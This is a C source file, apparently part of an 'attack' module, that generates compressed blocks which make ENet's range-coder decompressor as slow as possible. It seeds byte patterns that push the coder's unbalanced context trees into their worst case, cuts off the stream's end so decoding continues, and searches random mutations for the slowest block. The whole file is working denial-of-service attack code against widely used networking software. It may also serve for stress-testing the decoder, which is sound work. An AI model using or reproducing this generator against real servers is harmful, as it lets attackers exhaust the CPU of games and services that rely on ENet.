#include "attack/range_bomb.h"

#include "platform/system.h"

#include <enet/enet.h>
#include <stdlib.h>
#include <string.h>

enum { TEXT = ENET_PROTOCOL_MAXIMUM_MTU, TRIES = 3, MUTATIONS = 2000, FAMILIES = 4 };

static void *coder;

/* The least of some measurements: what else runs on the machine makes it longer only. */
static uint64_t cost(const uint8_t *block, size_t limit)
{
    static uint8_t out[TEXT];
    uint64_t least = UINT64_MAX;
    for (int i = 0; i < TRIES; i++) {
        uint64_t since = e4j_system_thread_nanoseconds();
        enet_range_coder_decompress(coder, block, RANGE_BOMB, out, limit);
        uint64_t took = e4j_system_thread_nanoseconds() - since;
        least = took < least ? took : least;
    }
    return least;
}

/*
 * The coder looks for a byte in a tree per context that nobody balances: bytes that come in order make it a list, and
 * those at its end cost the whole way. Contexts of two bytes that are new each time make it try and fill all three
 * orders, until its 4096 symbols are used up and it begins anew.
 */
static uint8_t text_byte(int family, size_t i)
{
    switch (family) {
    case 0:
        return (uint8_t) i; /* all bytes in order */
    case 1:
        return (uint8_t) -i;
    case 2:
        return (uint8_t) (i % 2 == 0 ? 0 : i < 512 ? i / 2 : 255 - i / 2 % 16); /* one long list, then its far end */
    default:
        return (uint8_t) (i < 256 ? i : 255 - i * i % 16); /* the far end, in changing contexts */
    }
}

static void start(int family, uint8_t *block)
{
    static uint8_t text[TEXT], packed[TEXT];
    for (size_t i = 0; i < TEXT; i++)
        text[i] = text_byte(family, i);
    for (size_t i = 0; i < RANGE_BOMB; i++)
        block[i] = (uint8_t) rand();
    /* As much of the text as fits; the rest of the block stays random. */
    for (size_t length = TEXT; length > 0; length -= length / 8 + 1) {
        const ENetBuffer buffer = {.data = text, .dataLength = length};
        size_t size = enet_range_coder_compress(coder, &buffer, 1, length, packed, sizeof packed);
        if (size > 0 && size <= RANGE_BOMB) {
            memcpy(block, packed, size > 4 ? size - 4 : size); /* without its end, so that it goes on */
            return;
        }
    }
}

uint64_t range_bomb(uint8_t *block, size_t limit)
{
    uint8_t tried[RANGE_BOMB];
    uint64_t most = 0;
    coder = enet_range_coder_create();
    if (coder == NULL)
        return 0;
    for (int family = 0; family < FAMILIES; family++) {
        start(family, tried);
        uint64_t took = cost(tried, limit);
        if (took > most) {
            most = took;
            memcpy(block, tried, sizeof tried);
        }
    }
    /* Then what random changes make worse. */
    for (int i = 0; i < MUTATIONS; i++) {
        memcpy(tried, block, sizeof tried);
        size_t at = (size_t) rand() % RANGE_BOMB, length = 1 + (size_t) rand() % 16;
        for (size_t j = at; j < at + length && j < RANGE_BOMB; j++)
            tried[j] = (uint8_t) rand();
        uint64_t took = cost(tried, limit);
        if (took > most) {
            most = took;
            memcpy(block, tried, sizeof tried);
        }
    }
    enet_range_coder_destroy(coder);
    return most;
}
